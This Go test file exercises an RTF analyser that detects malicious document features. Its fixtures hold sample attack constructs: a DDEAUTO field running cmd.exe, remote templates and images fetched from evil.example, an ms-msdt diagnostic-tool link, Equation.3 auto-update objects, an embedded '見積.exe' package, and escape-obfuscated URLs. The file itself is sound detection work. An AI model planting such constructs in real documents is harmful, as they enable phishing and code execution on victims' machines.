package document

import (
	"bytes"
	"encoding/hex"
	"io"
	"slices"
	"strings"
	"testing"
)

func readRTF(s string) (*Info, []Attached) {
	return ReadRTF(strings.NewReader(s), int64(len(s)))
}

// ole1 is an embedded object of OLE version 1.
func ole1(class, data string) string {
	prefixed := func(s string) string { return string(le32(len(s)+1)) + s + "\x00" }
	return string(le32(0x501)) + string(le32(oleEmbedded)) + prefixed(class) + string(le32(0)) + string(le32(0)) + string(le32(len(data))) + data
}

// packager is a file as the Object Packager frames it.
func packager(name, content string) string {
	path := `C:\tmp\` + name + "\x00"
	return "\x02\x00" + name + "\x00" + path + "\x00\x00\x03\x00" + string(le32(len(path))) + path + string(le32(len(content))) + content
}

func hexOf(s string) string { return hex.EncodeToString([]byte(s)) }

func TestRTFObjects(t *testing.T) {
	file := hexOf(ole1("Package", packager("見積.exe", "MZ content")))
	half := len(file) / 2
	for name, c := range map[string]struct {
		data, want string
		odd        bool
	}{
		"plain":                    {file, "見積.exe=MZ content", false},
		"lines":                    {strings.Join([]string{file[:7], file[7:90], file[90:]}, "\r\n"), "見積.exe=MZ content", false},
		"upper case and blanks":    {strings.ReplaceAll(strings.ToUpper(file), "0", " 0\t"), "見積.exe=MZ content", false},
		"control words":            {file[:5] + `\par ` + file[5:half] + `\x9` + "\n" + file[half:], "見積.exe=MZ content", true},
		"unknown destination":      {file[:5] + `{\*\aaaa 0102{4444}}` + file[5:half] + `{\*\b 55` + `}` + file[half:], "見積.exe=MZ content", true},
		"group":                    {file[:4] + `{` + file[4:half] + `}` + file[half:], "見積.exe=MZ content", true},
		"escaped characters":       {file[:6] + `\'41` + file[6:], "見積.exe=MZ content", true},
		"binary":                   {`\bin8 ` + ole1("Package", "")[:8] + file[16:], "見積.exe=MZ content", true},
		"other characters":         {file[:6] + "xyz;" + file[6:], "見積.exe=MZ content", true},
		"another class":            {hexOf(ole1("Word.Document.8", "\xd0\xcf\x11\xe0")), "Word.Document.8=\xd0\xcf\x11\xe0", false},
		"odd digit at the end":     {hexOf(ole1("Static", "ab")) + "6", "Static=ab", false},
		"header that is no header": {hexOf("\x01\x00\x00\x00\x09\x00\x00\x00rest"), "object=\x01\x00\x00\x00\x09\x00\x00\x00rest", true},
		"nothing":                  {"", "object=", false},
	} {
		info, files := readRTF(`{\rtf1{\object\objemb{\*\objclass X}{\*\objdata ` + c.data + `}}{\b text 41}}`)
		var got []string
		for _, f := range files {
			got = append(got, f.Name+"="+contentOf(t, f))
		}
		if strings.Join(got, " ") != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
		if slices.Contains(info.Exploits, ObjData) != c.odd || info.Unfinished != "" {
			t.Errorf("%s: %+v", name, info)
		}
	}
}

func TestRTFFacts(t *testing.T) {
	for name, c := range map[string]struct {
		text string
		want Info
	}{
		"plain":            {`{\rtf1\ansi Hello \b world\b0 template DDE}`, Info{}},
		"template":         {`{\rtf1{\*\template https://evil.example/a.dotm}}`, Info{Links: []External{{"attachedTemplate", "https://evil.example/a.dotm"}}}},
		"template, local":  {`{\rtf1{\*\template C:\\Users\\x\\Normal.dotm}}`, Info{}},
		"template, share":  {`{\rtf1{\*\template \\\\evil.example\\a}}`, Info{Links: []External{{"attachedTemplate", `\\evil.example\a`}}}},
		"template, hidden": {`{\rt{\*\template {h\'74}t\u112?\u115?:\` + "\n" + `//evil.example/}}`, Info{Links: []External{{"attachedTemplate", "https://evil.example/"}}}},
		"field":            {`{\rtf1{\field{\*\fldinst DDEAUTO cmd.exe "/k calc"}{\fldrslt x}}}`, Info{Exploits: []string{DDE}, Links: []External{{"dde", `cmd.exe "/k calc"`}}}},
		"page number":      {`{\rtf1{\field{\*\fldinst PAGE}}}`, Info{}},
		"picture":          {`{\rtf1{\field{\*\fldinst {INCLUDEPICTURE "https://evil.example/a.png"}}}}`, Info{Links: []External{{"image", "https://evil.example/a.png"}}}},
		"equation":         {`{\rtf1{\object\objemb\objupdate{\*\objclass Equation.3}}}`, Info{Exploits: []string{ObjUpdate, Equation}, Embedded: []Embedded{{Class: "Equation.3"}}}},
		"diagnostic tool":  {`{\rtf1{\*\template ms-msdt:/id x}}`, Info{Exploits: []string{MSDT}, Links: []External{{"attachedTemplate", "ms-msdt:/id x"}}}},
		"does not end":     {`{\rtf1{\*\template https://evil.example/`, Info{Links: []External{{"attachedTemplate", "https://evil.example/"}}}},
		"binary data":      {`{\rtf1{\pict\bin28 {\*\template https://x.evil/}}}`, Info{}},
	} {
		info, _ := readRTF(c.text)
		if !slices.Equal(info.Exploits, c.want.Exploits) || !slices.Equal(info.Links, c.want.Links) || !slices.Equal(info.Embedded, c.want.Embedded) {
			t.Errorf("%s: %+v, want %+v", name, info, c.want)
		}
	}
	linked := string(le32(0x501)) + string(le32(oleLinked)) + string(le32(8)) + "OLE2Lin\x00" + string(le32(20)) + "https://evil.exam/x\x00" + string(le32(0))
	info, _ := readRTF(`{\rtf1{\object\objautlink{\*\objdata ` + hexOf(linked) + `}}}`)
	if want := []External{{"oleObject", "https://evil.exam/x"}}; !slices.Equal(info.Links, want) {
		t.Errorf("linked object: %+v", info)
	}
}

func TestRTFBounds(t *testing.T) {
	if info, _ := readRTF(`{\rtf1` + strings.Repeat(`{\*\objdata 01}`, maxListed+1)); info.Unfinished != "too-many-entries" {
		t.Errorf("many objects: %+v", info)
	}
	if info, _ := readRTF(strings.Repeat(`{`, 1<<20) + `{\*\objdata 01}`); len(info.Embedded) > 1 {
		t.Errorf("%+v", info)
	}
}

func FuzzReadRTF(f *testing.F) {
	f.Add([]byte(`{\rtf1{\object{\*\objdata 0105{\*\x}\bin2 ab\'41 0000}}{\*\template x}}`))
	f.Add([]byte(`{\rt{\field{\*\fldinst DDE \u99?x}}\bin-1 `))
	f.Add([]byte(`{\rtf1{\*\objdata ` + hexOf(ole1("Package", packager("a", "b")))))
	f.Fuzz(func(t *testing.T, b []byte) {
		info, files := ReadRTF(bytes.NewReader(b), int64(len(b)))
		if len(info.Links) > maxListed || len(files) > maxListed {
			t.Errorf("unbounded: %+v", info)
		}
		for _, file := range files {
			r, err := file.Open()
			if err != nil {
				t.Fatal(err)
			}
			if n, _ := io.Copy(io.Discard, r); n > int64(len(b)) {
				t.Errorf("%d octets out of %d", n, len(b))
			}
		}
	})
}

func BenchmarkRTF(b *testing.B) {
	picture := strings.Repeat(strings.Repeat("0123456789abcdef", 8)+"\r\n", 5000)
	s := `{\rtf1` + strings.Repeat(`\pard\plain\f0\fs21 \'8e\'91\'97\'bf{\b x}\par `, 5000) + `{\pict ` + picture + `}}`
	b.SetBytes(int64(len(s)))
	b.ReportAllocs()
	for b.Loop() {
		readRTF(s)
	}
}
